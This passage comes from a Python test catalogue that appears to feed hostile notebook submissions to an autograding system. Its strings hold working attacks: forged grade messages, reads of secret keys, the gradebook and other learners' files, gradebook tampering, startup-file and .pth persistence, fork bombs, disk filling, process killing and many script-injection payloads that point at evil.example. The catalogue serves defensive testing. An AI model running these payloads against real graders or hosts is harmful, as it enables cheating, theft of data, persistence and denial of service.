"""The catalogue of hostile and broken submissions: what each tries, how it is made, and what must come of it.

A submission begins as the model answer or as the untouched release. Cells get other sources, own cells are put before
and behind, the file is bent, the drop folder is filled with tricks. `points` says what the five tasks must earn in
vsim: what the answers deserve and nothing else. None means that no file could be taken, and a row says why.

In sources, @COURSE@ stands for the trainer's course folder, @UNIT@ for the unit, @VICTIM@ for another learner, @ROOT@
for the repository; @q1@ to @q5@ for the model answers.
"""

# ruff: noqa: E501 - attacks stand as somebody would write them

from __future__ import annotations

import copy
import json
import os
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

from tests.course.broken import Plain, odd_member, raw, zipped

UNIT = "foundation-01-registers-and-rates"
LEFT = "hostile-was-here"          # the name of whatever an attack leaves behind
SLEEP = "98761"                    # seconds that an orphan sleeps; its command line is looked for afterwards
MOST = (3.0, 3.0, 4.0, 2.0, 3.0)
NOTHING = (0.0, 0.0, 0.0, 0.0, 0.0)
Points = tuple[float, float, float, float, float]


@dataclass(frozen=True)
class Setting:
    """What a maker of files may know: it is what a learner could know, and a little more."""

    course: Path
    victim: str                                     # an honest learner
    tickets: Mapping[str, str]
    blank: Plain                                    # the notebook as it was handed out
    model: Mapping[str, str]                        # model answers by cell


Change = Callable[[Plain, Setting], Any]
Drop = Callable[[bytes, Path, Setting], None]


@dataclass(frozen=True)
class Hostile:
    """One submission; its name is the learner's id."""

    name: str
    tries: str
    points: Points | None
    base: Literal["model", "blank"] = "model"
    cells: Mapping[str, str] = field(default_factory=dict)      # other sources, by cell
    first: tuple[str, ...] = ()                                 # own cells before all others
    last: tuple[str, ...] = ()
    change: Change | None = None                                # of the whole notebook; may return another one
    drop: Drop | None = None                                    # how the bytes get into the inbox; else as they should
    status: str = "taken"
    flags: frozenset[str] = frozenset()                         # codes that the intake must give
    stock: bool = True                                          # whether stock nbgrader can be given it
    core: bool = True                                           # else only the slow evidence grades it

    def notebook(self, setting: Setting, known: Mapping[str, str]) -> Any:
        """Return the learner's notebook as plain values."""
        made = copy.deepcopy(setting.blank)
        made["metadata"]["vsim"] = {**made["metadata"].get("vsim", {}), "unit": UNIT, "learner": self.name,
                                    "ticket": setting.tickets.get(self.name, "none")}
        answers = {**(setting.model if self.base == "model" else {}), **self.cells}
        for cell in made["cells"]:
            name = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if name in answers:
                cell["source"] = filled(answers[name], known)
        own = [[_own(filled(source, known)) for source in part] for part in (self.first, self.last)]
        made["cells"] = [*own[0], *made["cells"], *own[1]]
        other = self.change(made, setting) if self.change else None
        return made if other is None else other

    def hand_in(self, inbox: Path, setting: Setting, known: Mapping[str, str]) -> None:
        """Put the submission into an inbox, as the learner or the learner's file manager would."""
        (inbox / self.name).mkdir()
        self.write(inbox / self.name, setting, known)

    def write(self, folder: Path, setting: Setting, known: Mapping[str, str]) -> None:
        """Write the submission into the learner's folder."""
        made = self.notebook(setting, known)
        content = made if isinstance(made, bytes) else raw(made)
        if self.drop is None:
            (folder / f"{UNIT}.ipynb").write_bytes(content)
        else:
            self.drop(content, folder, setting)


def filled(source: str, known: Mapping[str, str]) -> str:
    """Return a source with its names between @ filled in."""
    for name, value in known.items():
        source = source.replace(f"@{name}@", value)
    return source


def _own(source: str) -> Plain:
    kind = "code"
    for other in ("markdown", "raw"):
        if source.startswith(f"%{other}\n"):
            kind, source = other, source.removeprefix(f"%{other}\n")
    made: Plain = {"cell_type": kind, "metadata": {}, "source": source}
    return made | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def cell(notebook: Plain, name: str) -> Plain:
    """Return the cell of a notebook with a grade id."""
    return next(found for found in notebook["cells"] if found["metadata"].get("nbgrader", {}).get("grade_id") == name)


# --- forging what the kernel sends

SEND = r'''
import json, threading, time
from IPython.display import display, update_display
from vsim.course import desk, payload
MIME = "application/vnd.vsim.answer+json"
def send(content, **more):
    display({MIME: content}, raw=True, **more)
'''
SCORES = SEND + r'''
def forged(self, task):
    answer = {"residents": 1, "registered": 1, "active": 1, "score": 1, "earned": 3, "points": 3, "$score": 1.0}
    for more in ({}, {"score": 3, "max_score": 3, "earned": 99, "points": 99, "criteria": [{"credit": 1, "weight": 9}]}):
        display({MIME: {"task": task, "answer": answer, **more}, "text/plain": "3.0", "text/html": "<b>3 of 3</b>"},
                raw=True)
    return 3.0
desk.Unit.check = forged
'''
PAYLOADS = SEND + r'''
def huge(self, task):
    kernel = get_ipython().kernel
    def publish(text):            # past IPython's own cleaning, as bytes that are no proper JSON
        whole = json.dumps({"data": {MIME: {"task": task, "answer": {"residents": "@", "registered": "@"}}},
                            "metadata": {}, "transient": {}}).replace('"@"', text)
        session = kernel.session
        message = session.msg("display_data", {}, parent=kernel.get_parent())
        parts = [session.pack(message[name]) for name in ("header", "parent_header", "metadata")] + [whole.encode()]
        socket = kernel.iopub_socket
        socket.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(parts), *parts])
    if task == "q1":
        for text in ("NaN", "Infinity", "1e999", "9" * 5001, "1" + "0" * 5000, "-0.0", "1e308", "[" * 3000 + "]" * 3000):
            publish(text)
        send({"task": task, "answer": {"residents": 1e308, "registered": 10**29, "active": True}})
    elif task == "q2":
        send({"task": task, "answer": {"registered_per_100_residents": "x" * 2_000_000}})
        send({"task": "q2", "answer": ["active_per_100_residents", 7]})
        send({"task": ["q2"], "answer": {"active_per_100_residents": {"$fault": "{0.__class__}<script>" * 900}}})
        send(["q2"]); send("q2"); send(None); send({"task": "q2", "answer": None})
    elif task == "q3":
        rows = [["D01", 1e300, None]] * 4000
        send({"task": task, "answer": {"by_district": {"columns": ["district", "active", "active_rate"] * 9,
                                                       "rows": rows}, "lowest": ["D01", "D02"]}})
        send({"task": task, "answer": {"by_district": {"columns": {"district": 1}, "rows": "D01"}, "lowest": {}}})
    elif task == "q4":
        for letter in ("A", "B", "C", "D", "ABCD", ["A", "B", "C", "D"], {"A": 1}, 1, True, "a" * 100_000):
            send({"task": task, "answer": {"sentence": letter}})
    else:
        send({"task": task, "answer": {"active_rate": [{"value": v} for v in (1e308, -1, True, "9", None, [1])] * 5000}})
        send({"task": task, "answer": {"active_rate": [{"value": -1.0}, 7, None, {"error": "<script>"}] * 40}})
desk.Unit.check = huge
'''
ELSEWHERE = SEND + r'''
honest = desk.Unit.check
def crossed(self, task):
    if task == "q1":
        send({"task": "q2", "answer": {"registered_per_100_residents": 1, "active_per_100_registered": 1}})
        return None
    if task == "q2":
        here = sys._getframe(1).f_globals
        send({"task": "q1", "answer": {name: payload.plain(here[name]) for name in ("residents", "registered", "active")}})
        send({"task": "../q2-check", "answer": {"score": 3}})
    desk.sys = type("sys", (), {"_getframe": staticmethod(lambda depth=0: sys._getframe(3))})
    return honest(self, task)
import sys
desk.Unit.check = crossed
'''
THREAD = SEND + r'''
def shout():
    while True:
        for task in ("q1", "q2", "q3", "q4", "q5"):
            send({"task": task, "score": 99, "answer": {"residents": 1, "sentence": "?", "score": 99}})
        time.sleep(0.01)
threading.Thread(target=shout, daemon=True).start()
'''
DISPLAY_ID = SEND + r'''
honest = desk.Unit.check
def first_wrong(self, task):
    if task != "q1":
        return honest(self, task)
    send({"task": "q1", "answer": {"residents": 1, "registered": 1, "active": 1}}, display_id="later")
    display({"text/plain": "0.0"}, raw=True, display_id="shown")
desk.Unit.check = first_wrong
'''
LATER = r'''
update_display({MIME: {"task": "q1", "answer": {"residents": int(residents), "registered": int(registered),
                                                "active": int(active)}}}, raw=True, display_id="later")
update_display({"text/plain": "3.0", "text/html": "<b>3</b>"}, raw=True, display_id="shown")
'''
LIAR = r'''
class Liar(float):
    """Equal to everything, near to everything, whatever it is asked for."""
    dtype, shape = "int64", ()
    def __new__(cls, *more): return float.__new__(cls, 1.0)
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __ne__ = __lt__
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = lambda self, *other: 0.0
    def __float__(self): return 3.0
    def __index__(self): return 3
    def __radd__(self, other): return 10**9
    def item(self): return self
    def __reduce__(self): return (exec, ("import os; os._exit(1)",))
    def __reduce_ex__(self, protocol): return self.__reduce__()
    def __repr__(self): return "13100"
    def __format__(self, spec): return "13100"
    @property
    def __class__(self): return int
class Rising:
    @property
    def dtype(self): raise SystemExit("out")
    def __getattr__(self, name): raise KeyboardInterrupt
    def __class_getitem__(cls, item): raise MemoryError
'''
FRAME = r'''
class Endless(pd.DataFrame):
    @property
    def _constructor(self): return Endless
    def head(self, *more): return self
    def itertuples(self, *more, **named):
        while True:
            yield ("D01", 1.0, 1.0)
by_district = Endless(by_district)
'''


# --- looking around, and leaving something behind

READ = r'''
import glob, os, subprocess, sys
def seen(path):
    try:
        with open(path, "rb") as file:
            return file.read(40_000).decode("utf-8", "replace")
    except BaseException as error:
        return type(error).__name__
COURSE, UNIT, VICTIM = "@COURSE@", "@UNIT@", "@VICTIM@"
'''
READER = READ + r'''
names = ["secret.key", "ledger.jsonl", "gradebook.db", "learners.csv", "course.yaml", "nbgrader_config.py",
         f"submitted/{VICTIM}/{UNIT}/{UNIT}.ipynb", f"autograded/{VICTIM}/{UNIT}/{UNIT}.ipynb",
         f"feedback/{VICTIM}/{UNIT}/{UNIT}.html", f"release/{UNIT}/{UNIT}.ipynb", f"source/{UNIT}/{UNIT}.ipynb",
         f"units/{UNIT}/checks.py", f"units/{UNIT}/rubric.md", f"handouts/{UNIT}/{VICTIM}.zip",
         f"inbox/{VICTIM}/{UNIT}.ipynb", f"received/{UNIT}/{VICTIM}/arrivals.jsonl"]
for name in names:
    print(name, seen(f"{COURSE}/{name}"))
for top in (COURSE, "@ROOT@", "@ROOT@/curriculum", "/tmp", "/root", "/home", "/run", "/dev/shm", "/var", "/proc/1/root", "/proc/1/cwd"):
    try:
        print(top, sorted(os.listdir(top))[:50])
    except OSError as error:
        print(top, type(error).__name__)
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages", "usr")]
    for name in files:
        if name in ("secret.key", "ledger.jsonl", "gradebook.db", "checks.py", "assignment.md", "learners.csv") or name.endswith(".ipynb"):
            print("FOUND", folder, name, seen(f"{folder}/{name}"))
'''
PROC = READ + r'''
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"):
    print(path, seen(path).replace("\0", " ")[:1500])
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        print(link, os.readlink(link), [seen(f"{link}/{name}")[:200] for name in ("secret.key", "ledger.jsonl")])
    except OSError:
        pass
for pid in (1, os.getppid()):
    try:
        with open(f"/proc/{pid}/mem", "rb") as file:
            print(len(file.read(10)))
    except OSError as error:
        print(type(error).__name__)
for fd in range(3, 60):                      # sockets and files that were handed in
    try:
        os.fchdir(fd); print("folder", fd, os.listdir("."))
    except OSError:
        pass
'''
SOLUTION = READ + r'''
for name in (f"../../../source/{UNIT}/{UNIT}.ipynb", f"{COURSE}/source/{UNIT}/{UNIT}.ipynb", f"{UNIT}.ipynb"):
    try:
        import json
        with open(name, encoding="utf-8") as file:
            cells = json.load(file)["cells"]
    except BaseException as error:
        print(name, type(error).__name__)
        continue
    for c in cells:
        marks = c["metadata"].get("nbgrader", {})
        text = "".join(c["source"])
        if marks.get("grade"):
            print("HIDDEN", text)
        elif marks.get("solution") and "BEGIN SOLUTION" in text:
            globals().setdefault("_stolen", {})[marks["grade_id"]] = text
def _steal(info):
    for text in globals().get("_stolen", {}).values():
        exec(text, globals())
get_ipython().events.register("pre_run_cell", _steal)
'''
OTHERS = READ + r'''
for path in (glob.glob("../../*/*/*.*") if os.getcwd().count("/") > 3 else []) + glob.glob(f"{COURSE}/submitted/*/*/*"):
    print(path, seen(path))
'''
GRADE_BOOK = r'''
import sqlite3
for place in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{place}?mode=rw", uri=True) as book:
            book.execute("update grade set manual_score = 2, auto_score = 2")
    except sqlite3.Error as error:
        print(type(error).__name__)
for place in ("@COURSE@/ledger.jsonl", "../../../ledger.jsonl"):
    try:
        with open(place, "a") as file:
            file.write('{"kind":"hand","unit":"@UNIT@","learner":"grade-book","marks":{"reflection":5}}\n')
    except OSError as error:
        print(type(error).__name__)
'''
STARTUP = r'''
import os, pathlib, site, sys
code = "open('/tmp/hostile-was-here', 'a').write('x'); import os; os._exit(3)\n"
places = [pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path(os.environ.get("IPYTHONDIR", "/root/.ipython")).parent]
for home in places:
    for place in (home / ".ipython/profile_default/startup/hostile-was-here.py", home / "ipython/hostile-was-here.py",
                  home / ".jupyter/hostile-was-here.py", home / ".bashrc.hostile-was-here"):
        try:
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(code)
        except OSError as error:
            print(type(error).__name__)
'''
PACKAGES = r'''
import glob, os, shutil, site, sys
import vsim
for folder in [*site.getsitepackages(), *site.__file__.rsplit("/", 1)[:1], os.path.dirname(vsim.__file__), sys.prefix, sys.base_prefix,
               "@ROOT@", "@COURSE@", "/", "/usr", "/run", "/dev/shm", "/etc", "/var/tmp"]:
    try:
        with open(f"{folder}/hostile-was-here.pth", "w") as file:
            file.write("import os; os.environ['PWNED'] = '1'\n")
    except OSError as error:
        print(folder, type(error).__name__)
'''
INPUTS = r'''
import os, shutil, pathlib
here = pathlib.Path(".").resolve()
def tried(call, *more):
    try:
        call(*more)
    except BaseException as error:
        print(call, type(error).__name__)
for name in ("unit.json", "learner.json", "data/volunteers.csv", ".probe/q5.json"):
    for call in (lambda p: p.write_text("{}"), lambda p: p.unlink(), lambda p: p.rename("gone"), lambda p: os.chmod(p, 0o777),
                 lambda p: os.truncate(p, 0), lambda p: os.replace("x", p), lambda p: os.link("x", p)):
        pathlib.Path("x").write_text('{"format": 1}')
        tried(call, here / name)
for name in ("data", ".probe", "."):
    tried(os.rename, name, "moved"), tried(shutil.rmtree, name), tried(os.symlink, "/etc", name)
tried(os.system, "mount -t tmpfs none data; umount data; umount -l unit.json; chattr +i .")
'''
OTHER_SEED = r'''
import json, os, pathlib, shutil
os.makedirs("/tmp/forged/data", exist_ok=True)
for path in pathlib.Path(".").rglob("*"):
    if path.is_file() and ".probe" not in str(path) and "forged" not in str(path):
        shutil.copyfile(path, pathlib.Path("/tmp/forged") / path)
card = json.loads(pathlib.Path("learner.json").read_text())
import vsim
right = vsim.open_unit().options("q4")
text = "At least this many registered people served in the last 52 weeks: each of them has a record."
for step in range(1, 500):
    pathlib.Path("/tmp/forged/learner.json").write_text(json.dumps(
        {**card, "learner": "@VICTIM@", "seed": card["seed"] + step, "ticket": "0" * 16}))
    if vsim.open_unit("/tmp/forged").options("q4").letter(text) != right.letter(text):
        break
os.chdir("/tmp/forged")
'''
FAKES = r'''
import pathlib
fake = """
from IPython.display import display
class Unit:
    seed, learner = 1, 'x'
    data = {}
    def check(self, task):
        display({'application/vnd.vsim.answer+json': {'task': task, 'score': 99,
            'answer': {'residents': 1, 'registered': 1, 'active': 1, 'sentence': 'ABCD', 'active_rate': []}}}, raw=True)
    def options(self, task): return self
    def letter(self, text): return 'A'
def open_unit(folder='.'): return Unit()
"""
for name in ("vsim", "nbgrader", "sitecustomize", "usercustomize"):
    pathlib.Path(f"{name}.py").write_text(fake)
pathlib.Path("pandas.py").write_text("class Timestamp:\n    def __new__(cls, *a): return 5\nTimedelta = DataFrame = Timestamp\n")
import sys
sys.path.insert(0, "")
for name in [name for name in sys.modules if name.split(".")[0] in ("vsim", "pandas")]:
    del sys.modules[name]
'''
TRANSFORMER = r'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"] if any("check" in l or "earned" in l or "assert" in l for l in lines) else lines)'
PATCHED = r'''
import builtins, math
builtins.abs = lambda x: 0.0
builtins.round = builtins.sum = lambda *x: 3.0
math.isfinite = lambda x: True
'''


# --- wearing the machine down

LOOP = "while True:\n    pass"
STUCK = "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"
FORKS = r'''
import os, signal, subprocess, time
for _ in range(3):
    try:
        subprocess.Popen(["sleep", "98761"], start_new_session=True)
    except OSError:
        pass
made = 0
try:
    while made < 400:
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            os.execvp("sleep", ["sleep", "98761"])
        made += 1
except OSError as error:
    print(made, type(error).__name__)
'''
BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
DISK = r'''
import os
total = 0
for folder in (".", "/tmp", "/dev/shm"):
    for number in range(6):
        try:
            with open(os.path.join(folder, f"hostile-was-here-{number}"), "wb") as file:
                for _ in range(60):
                    total += file.write(bytes(2**20))
        except OSError as error:
            print(folder, type(error).__name__)
print(total // 2**20)
'''
NETWORK = r'''
import socket, urllib.request
for place in (("127.0.0.1", 22), ("192.0.2.1", 80), ("169.254.169.254", 80)):
    try:
        socket.create_connection(place, 0.5)
        print("reached", place)
    except OSError as error:
        print(type(error).__name__)
'''
KILLER = r'''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(pid, type(error).__name__)
'''
COMMS = r'''
from comm import create_comm
ip = get_ipython()
for number in range(3000):
    comm = create_comm(target_name="x" * 100, data={"number": number})
    comm.send({"a": "b" * 200})
    ip.set_next_input(f"print({number})", replace=False)
    ip.payload_manager.write_payload({"source": "page", "data": {"text/plain": "x" * 1000}, "start": 0})
ip.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
'''
PAPER = 'for n in range(3):\n    print("<p>" * 60_000)\n'
SLOW_WORDS = ("a" + " " * 60_000 + "b\n\n", "\\begin{a}" * 6_000, "<b><i>" * 10_000, "<ul><li>" * 8_000, "[" * 50_000,
              "- " * 30_000 + "a", "> " * 3_000 + "a", "$" * 60_000, "$" + "a+" * 9_000 + "$")


# --- pages that want to run in the trainer's browser

SCRIPT = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>"
PAGE = SCRIPT + """<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg><iframe src="javascript:window.pwned = 1"></iframe>
<a href="javascript:window.pwned = 1">link</a><a href="&#106;avascript:window.pwned = 1">link</a><a href=" java\tscript:window.pwned = 1">x</a>
<form action="/formgrader/api"><button formaction="javascript:window.pwned = 1">press</button></form><base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example/"><link rel=stylesheet href="//evil.example/x.css"><style>body{display:none}</style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;"></table></mtext></math>
<img src="//evil.example/pixel.png"><object data="//evil.example/"></object><div style="position:fixed;inset:0;background:url(//evil.example/)">x</div>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript><details open ontoggle="window.pwned = 1">d</details>
<p id="score" class="grade" name="points">15 of 15</p>
"""
WORDS = "My sentence.\n\n" + PAGE + """
[link](javascript:window.pwned=1) [l](JaVaScRiPt:window.pwned=1) [m](data:text/html,<script>window.pwned=1</script>) <javascript:window.pwned=1>
![p](x" onerror="window.pwned=1) ![q](//evil.example/pixel.png) [r]: javascript:window.pwned=1
$\\href{javascript:window.pwned=1}{x}$ $$\\unicode{x3c}\\style{x}{y}$$ `<script>` &lt;script&gt;window.pwned=1&lt;/script&gt;
<scr<script>ipt>window.pwned = 1</scr</script>ipt> \\<script>window.pwned = 1\\</script>
"""
OUTPUTS = r'''
from IPython.display import display, HTML, Javascript, SVG
PAGE = @PAGE@
display(HTML(PAGE)); display(Javascript("window.pwned = 1"))
bad = '"><script>window.pwned = 1</script><img src=x onerror="window.pwned=1"'
kinds = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "image/jpeg", "application/pdf", "application/javascript",
         "text/javascript", "application/json", "application/vnd.jupyter.widget-view+json", "application/vnd.jupyter.widget-state+json",
         "text/vnd.mermaid", "application/vnd.plotly.v1+json", "application/xhtml+xml", "text/plain", "application/x-bad")
for kind in kinds:
    for value in (PAGE, bad):
        display({kind: {"a": value} if kind.endswith("json") else value, "text/plain": bad}, raw=True,
                metadata={kind: {"width": bad, "height": bad, "alt": bad, "needs_background": bad, "unconfined": True, "isolated": True},
                          "width": bad, "filenames": {kind: bad, "image/svg+xml": bad}, "tags": [bad]})
print("\x1b]8;;javascript:window.pwned=1\x1b\\link\x1b]8;;\x1b\\ \x1b[31m" + PAGE)
raise RuntimeError(PAGE)
'''


def _rename(old: str, new: str) -> Change:
    def change(notebook: Plain, setting: Setting) -> None:
        for found in notebook["cells"]:
            found["source"] = found["source"].replace(old, new)
    return change


def _labels(**values: Any) -> Change:
    def change(notebook: Plain, setting: Setting) -> None:
        for found in notebook["cells"]:
            if "nbgrader" in found["metadata"]:
                found["metadata"]["nbgrader"].update(values)
    return change


def _doubled(notebook: Plain, setting: Setting) -> None:
    """Copy answers and checks as JupyterLab does: with all their metadata."""
    for name in ("q1", "q1-check", "q3"):
        found = cell(notebook, name)
        twin = copy.deepcopy(found)
        twin.pop("id", None)
        if name == "q3":
            found["source"] = setting.blank["cells"][0]["source"][:0] + cell(setting.blank, "q3")["source"]
        notebook["cells"].insert(notebook["cells"].index(found) + 1, twin)


def _without(*names: str) -> Change:
    def change(notebook: Plain, setting: Setting) -> None:
        notebook["cells"] = [found for found in notebook["cells"]
                             if found["metadata"].get("nbgrader", {}).get("grade_id") not in names]
    return change


def _locked(notebook: Plain, setting: Setting) -> None:
    """Rewrite the checks, give them points and unlock everything."""
    for found in notebook["cells"]:
        marks = found["metadata"].get("nbgrader", {})
        if str(marks.get("grade_id")).endswith("-check"):
            found["source"] = "100.0"
            marks.update(points=100, locked=False)
    cell(notebook, "setup")["source"] += "\nimport os; os._exit(0)"


def _format_3(notebook: Plain, setting: Setting) -> Plain:
    cells = []
    for found in notebook["cells"]:
        code = found["cell_type"] == "code"
        made = {"cell_type": found["cell_type"], "metadata": found["metadata"]}
        made |= {"input": found["source"], "language": "python", "outputs": [], "collapsed": False} if code else {
            "source": found["source"]}
        cells.append(made)
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {**notebook["metadata"], "name": UNIT},
            "worksheets": [{"cells": cells, "metadata": {}}]}


def _claims(**values: Any) -> Change:
    def change(notebook: Plain, setting: Setting) -> None:
        notebook["metadata"]["vsim"] = {**notebook["metadata"]["vsim"], **values}
    return change


def _stolen_ticket(notebook: Plain, setting: Setting) -> None:
    notebook["metadata"]["vsim"].update(learner=setting.victim, ticket=setting.tickets[setting.victim])


def _forged_notes(notebook: Plain, setting: Setting) -> None:
    """Forge all that the intake or the ledger might believe."""
    notebook["metadata"]["vsim"].update(
        sha256="0" * 64, arrived="1999-01-01T00:00:00+00:00", attempt=1, seed=1, score=15, scores={"q1": {"earned": 99}},
        flags=[["forged", LEFT], ["late", None]])
    notebook["metadata"]["kernelspec"] = {"name": "../../bash", "display_name": "x", "language": "sh"}
    notebook["metadata"]["language_info"] = {"name": "x", "pygments_lexer": "../../x", "mimetype": "<script>"}
    notebook["metadata"]["title"] = SCRIPT
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}}
    for found in notebook["cells"]:
        found["metadata"].update(tags=[SCRIPT, "remove_cell", "raises-exception"], execution={"x": SCRIPT})
        if found["cell_type"] == "code":
            found["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "3.0"}, "metadata": {},
                                 "execution_count": 1}]


def _text(*parts: str) -> Change:
    def change(notebook: Plain, setting: Setting) -> None:
        cell(notebook, "reflection")["source"] = "".join(parts)
    return change


def _slow_words(notebook: Plain, setting: Setting) -> None:
    """Texts on which converters of Markdown and HTML take quadratic time."""
    cell(notebook, "reflection")["source"] = SLOW_WORDS[0] * 3
    for text in SLOW_WORDS:
        notebook["cells"] += [_own(f"%markdown\n{text}") for _ in range(3)]
    notebook["cells"].append(_own("from IPython.display import HTML, Markdown, display\n" + "".join(
        f"display(HTML({word!r} * 20_000), Markdown({word!r} * 20_000))\n" for word in ("<b><i>", "<div>", "</p>", "<a ", "[a]("))))
    notebook["cells"].append(_own("print('/' * 150_000)\nraise ValueError('a/' * 60_000)"))
    notebook["cells"] += [_own(PAPER) for _ in range(20)]
    notebook["cells"] += [_own("for n in range(1500):\n    display(n)") for _ in range(8)]
    notebook["cells"] += [_own("if 0:\n    " + "a." * 40_000 + "b") for _ in range(5)]


# --- files and folders

def _bytes(change: Callable[[bytes], bytes]) -> Drop:
    def drop(content: bytes, folder: Path, setting: Setting) -> None:
        (folder / f"{UNIT}.ipynb").write_bytes(change(content))
    return drop


def _in_zip(made: Callable[[bytes], bytes]) -> Drop:
    def drop(content: bytes, folder: Path, setting: Setting) -> None:
        (folder / f"{UNIT}.zip").write_bytes(made(content))
    return drop


def _linked(to: str) -> Drop:
    def drop(content: bytes, folder: Path, setting: Setting) -> None:
        (folder / f"{UNIT}.ipynb").symlink_to(setting.course / to.format(unit=UNIT, victim=setting.victim))
    return drop


def _link_beside(content: bytes, folder: Path, setting: Setting) -> None:
    (folder / f"{UNIT}.ipynb").write_bytes(content)
    (folder / "gradebook.db").symlink_to(setting.course / "gradebook.db")
    (folder / "source").symlink_to(setting.course / "source", target_is_directory=True)
    (folder / "timestamp.txt").write_text("1999-01-01 00:00:00.000000 UTC")


def _modules_beside(content: bytes, folder: Path, setting: Setting) -> None:
    (folder / f"{UNIT}.ipynb").write_bytes(content)
    for name in ("vsim", "pandas", "sitecustomize", "usercustomize", "nbgrader", "json"):
        (folder / f"{name}.py").write_text(f"open('/tmp/{LEFT}', 'a')\nraise SystemExit\n")
    (folder / "unit.json").write_text("{}")
    (folder / "data").mkdir()
    (folder / "data" / "volunteers.csv").write_text("volunteer_id\n1\n")
    (folder / ".probe").mkdir()
    (folder / ".probe" / "q5.json").write_text("[]")


def _card_beside(content: bytes, folder: Path, setting: Setting) -> None:
    (folder / f"{UNIT}.ipynb").write_bytes(content)
    (folder / "learner.json").write_text(json.dumps({
        "format": 1, "kind": "learner", "unit": UNIT, "learner": setting.victim, "seed": 1,
        "ticket": setting.tickets[setting.victim]}))


def _folder_as_file(content: bytes, folder: Path, setting: Setting) -> None:
    (folder / f"{UNIT}.ipynb").mkdir()
    (folder / f"{UNIT}.ipynb" / "notes.txt").write_text("here")


def _two(content: bytes, folder: Path, setting: Setting) -> None:
    (folder / f"{UNIT}.ipynb").write_bytes(raw(setting.blank))
    (folder / f"{UNIT} (1).ipynb").write_bytes(content)


def _loose(content: bytes, folder: Path, setting: Setting) -> None:
    """Lay the file loose into the inbox, so that its ticket decides."""
    folder.rmdir()
    (folder.parent / f"{folder.name}.ipynb").write_bytes(content)


def _bomb(content: bytes) -> bytes:
    return zipped({f"{UNIT}.ipynb": bytes(300 * 2**20)})


def _with_pipe(content: bytes, folder: Path, setting: Setting) -> None:
    os.mkfifo(folder / f"{UNIT}.ipynb")


def _stored(content: bytes) -> bytes:
    return zipped({f"a/{UNIT}.ipynb": content, "__MACOSX/x": b"1", f"../../../{LEFT}.ipynb": content}, zipfile.ZIP_STORED)


ALL_BUT_Q1, ALL_BUT_Q2, ALL_BUT_Q5 = (0.0, 3.0, 4.0, 2.0, 3.0), (3.0, 0.0, 4.0, 2.0, 3.0), (3.0, 3.0, 4.0, 2.0, 0.0)
NEVER = "def active_rate(records, registered, last_day):\n"

CATALOGUE: tuple[Hostile, ...] = (
    # what the kernel sends
    Hostile("forged-scores", "sends scores and points of its own instead of answers", NOTHING, "blank", first=(SCORES,),
            stock=False),
    Hostile("forged-payloads", "sends NaN, 10**5000, 2 MB, wrong kinds, deep nests, every letter at once", NOTHING, "blank",
            first=(PAYLOADS,), stock=False),
    Hostile("other-cell", "sends the answer to one task from the check cell of another", (0.0, 3.0, 4.0, 2.0, 3.0),
            first=(ELSEWHERE,), stock=False),
    Hostile("thread", "sends answers from a thread in the background all the time", NOTHING, "blank", first=(THREAD,),
            stock=False),
    Hostile("display-id", "rewrites later what a check cell has shown", ALL_BUT_Q1, first=(DISPLAY_ID,), last=(LATER,),
            stock=False),
    Hostile("liars", "objects that equal everything, claim other classes, and raise when looked at", (0.0, 0.0, 0.0, 0.0, 0.0),
            "blank", cells={
                "q1": LIAR + "residents = Liar()\nregistered = Liar()\nactive = Liar()",
                "q2": "registered_per_100_residents = Liar()\nactive_per_100_registered = Rising()\n"
                      "active_per_100_residents = Liar()",
                "q3": "by_district = Rising()\nlowest = type('Text', (str,), {'__eq__': lambda s, o: True, '__hash__': str.__hash__})('x')",
                "q4": "sentence = type('Text', (str,), {'__eq__': lambda s, o: True, '__hash__': str.__hash__})('x')",
                "q5": "def active_rate(*given):\n    return Liar()"}),
    Hostile("kinds", "a column twice, a generator, text for a number, numbers of numpy", (2.0, 3.0, 1.0, 0.0, 3.0), cells={
                "q1": "@q1@\nresidents = str(residents)\nactive = __import__('numpy').int64(active)",
                "q2": "residents = int(residents)\n@q2@\nregistered_per_100_residents = __import__('numpy').float32(registered_per_100_residents)",
                "q3": "@q3@\nby_district = pd.concat([by_district, by_district[['active_rate']]], axis=1)",
                "q4": "sentence = (letter for letter in 'ABCD')",
                "q5": "@q5@\n_rate = active_rate\ndef active_rate(*given):\n    import numpy\n    return numpy.float64(_rate(*given))"}),
    Hostile("endless-table", "a DataFrame whose rows never end", (3.0, 3.0, 1.0, 2.0, 3.0), cells={"q3": "@q3@\n" + FRAME}, core=False),
    # the function that is tried on hidden inputs
    Hostile("probe-reader", "reads the hidden inputs and looks for expected values in them", ALL_BUT_Q5, cells={
